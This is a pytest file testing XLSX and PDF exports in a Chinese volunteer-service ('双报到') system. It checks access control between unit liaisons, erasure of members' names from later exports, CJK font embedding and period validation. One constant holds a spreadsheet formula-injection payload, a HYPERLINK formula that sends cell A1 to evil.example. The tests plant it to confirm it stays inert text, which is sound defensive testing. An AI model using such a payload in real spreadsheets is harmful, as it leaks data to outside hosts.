"""双报到 exports on both backends: a member's 活动记录 and 反馈卡 and an employer unit's
反馈卡 as XLSX and PDF, and what an attacker tries with them: a formula planted in a
result text, a liaison reading another unit's card, a name read after its erasure."""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import load_workbook

from domain.values import Role
from interfaces.cli.users import add_user
from interfaces.roster_pdf import font_path
from tests.support.api import Api
from tests.support.roster import (
    add_member_user,
    claim,
    complete,
    confirm,
    ok,
    post_need,
    register,
    seat,
)

PERIOD = {"start": "2024-01-01", "end": "2099-12-31"}
PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def cells(body: bytes) -> dict[str, list[list[Any]]]:
    """Every sheet's values, and no cell may hold a formula."""
    book = load_workbook(io.BytesIO(body))
    out = {}
    for sheet in book.worksheets:
        rows = []
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            rows.append([cell.value for cell in row])
        out[sheet.title] = rows
    return out


def worked(api: Api, result: str = "走访12户，劝离车辆3辆", hours: float = 2.5) -> str:
    """A member of 亿利资源集团 (``m1``) who claimed, did and had confirmed one need."""
    add_member_user(api, "m1")
    member_id = register(api, "m1")
    need_id = post_need(api)
    claim(api, need_id, "m1")
    complete(api, need_id, "m1", hours=hours, result=result)
    confirm(api, need_id, assessment="excellent")
    return member_id


def liaison(api: Api, user_id: str, unit_id: str) -> str:
    api.tokens[user_id] = add_user(
        api.container, user_id, user_id, Role.LIAISON, [f"unit:{unit_id}"]
    )
    return user_id


def test_member_record_and_feedback_sheet_as_xlsx(api: Api) -> None:
    member_id = worked(api)
    r = api.get("m1", f"/members/{member_id}/record.xlsx")
    assert r.status_code == 200 and r.headers["content-type"] == XLSX
    sheets = cells(r.content)
    record = sheets["活动记录"]
    assert record[0][0] == "需求" and record[1][0] == "城市华庭消防通道入户走访"
    assert record[1][6] == 2.5 and record[1][8] == "优秀"
    facts = {row[0]: row[1] for row in sheets["概况"][1:]}
    assert facts["姓名"] == "张建国" and facts["已确认时长"] == "2.5 小时"
    assert "13900001111" not in str(sheets)  # phones are never exported

    card = api.get("coordinator", f"/members/{member_id}/feedback.xlsx", **PERIOD)
    assert card.status_code == 200
    sheets = cells(card.content)
    facts = {row[0]: row[1] for row in sheets["概况"][1:]}
    assert facts["服务时长合计"] == "2.5 小时" and facts["总体评价"] == "优秀"
    # a period before the work: an empty card, not an error
    empty = api.get("coordinator", f"/members/{member_id}/feedback.xlsx",
                    start="2020-01-01", end="2020-12-31")  # fmt: skip
    assert len(cells(empty.content)["反馈卡"]) == 1


def test_a_formula_in_a_result_text_stays_text(api: Api) -> None:
    member_id = worked(api, result=PLANTED)
    liaison(api, "li-group", "yili-group")
    for user, path in (
        ("m1", f"/members/{member_id}/record.xlsx"),
        ("coordinator", f"/members/{member_id}/feedback.xlsx"),
        ("li-group", "/units/yili-group/feedback.xlsx"),
    ):
        r = api.get(user, path, **PERIOD)
        assert r.status_code == 200, (path, r.text)
        flat = [v for rows in cells(r.content).values() for row in rows for v in row]
        assert PLANTED in flat  # stored as the text typed, typed as a string (cells())


def test_unit_card_for_its_liaison_and_auditors_only(api: Api) -> None:
    member_id = worked(api)
    seat(api, "yljw-property")
    liaison(api, "li-group", "yili-group")
    r = api.get("li-group", "/units/yili-group/feedback.xlsx", **PERIOD)
    assert r.status_code == 200
    sheets = cells(r.content)
    assert sheets["反馈卡"][1][:2] == ["张建国", "城市华庭消防通道入户走访"]
    assert api.get("auditor", "/units/yili-group/feedback.xlsx", **PERIOD).status_code == 200

    # another unit's liaison, a coordinator, a member: refused, nothing of the card shown
    for user in ("property", "coordinator", "m1"):
        for fmt in ("xlsx", "pdf"):
            refused = api.get(user, f"/units/yili-group/feedback.{fmt}", **PERIOD)
            assert refused.status_code == 403, (user, fmt)
            assert "张建国" not in refused.text
    # a member employed elsewhere is not the other liaison's to see at all
    for path in ("record.xlsx", "feedback.xlsx", "record.pdf"):
        hidden = api.get("property", f"/members/{member_id}/{path}", **PERIOD)
        assert hidden.status_code == 404 and "张建国" not in hidden.text
    assert api.get("li-group", f"/members/{member_id}/record.xlsx").status_code == 200
    assert api.get("auditor", "/units/no-such-unit/feedback.xlsx", **PERIOD).status_code == 404


def test_erased_names_are_absent_from_every_later_export(api: Api) -> None:
    member_id = worked(api)
    liaison(api, "li-group", "yili-group")
    before = api.get("coordinator", f"/members/{member_id}/record.xlsx")
    assert "张建国" in str(cells(before.content))
    ok(api.post("admin", f"/members/{member_id}/erasure", {"reason": "本人申请删除"}))

    for user, path in (
        ("coordinator", f"/members/{member_id}/record.xlsx"),
        ("coordinator", f"/members/{member_id}/feedback.xlsx"),
        ("li-group", "/units/yili-group/feedback.xlsx"),
    ):
        r = api.get(user, path, **PERIOD)
        assert r.status_code == 200
        text = str(cells(r.content))
        assert "张建国" not in text and "13900001111" not in text and "已删除" in text
        assert "城市华庭消防通道入户走访" in text  # the work itself stays


def test_pdf_exports_embed_a_cjk_font(api: Api) -> None:
    try:
        font_path(None)
    except Exception:
        pytest.skip("no CJK font installed (apt-get install fonts-wqy-microhei)")
    member_id = worked(api, result="入户" * 1000)  # the longest result: a row still fits a page
    r = api.get("coordinator", f"/members/{member_id}/feedback.pdf", **PERIOD)
    assert r.status_code == 200 and r.headers["content-type"] == "application/pdf"
    assert r.content.startswith(b"%PDF") and b"/FontFile2" in r.content
    record = api.get("m1", f"/members/{member_id}/record.pdf")
    assert record.status_code == 200 and record.content.startswith(b"%PDF")


def test_bad_periods_are_refused(api: Api) -> None:
    member_id = worked(api)
    path = f"/members/{member_id}/feedback.xlsx"
    assert api.get("coordinator", path).status_code == 422  # a card needs a period
    assert api.get("coordinator", path, start="2024-02-01", end="2024-01-01").status_code == 422
    assert api.get("coordinator", path, start="yesterday", end="2024-01-01").status_code == 422
    assert (
        api.get("coordinator", path, start="2024-01-01T00:00", end="2024-02-01").status_code == 422
    )
    assert api.get("coordinator", f"/members/{member_id}/record.doc").status_code in (404, 422)
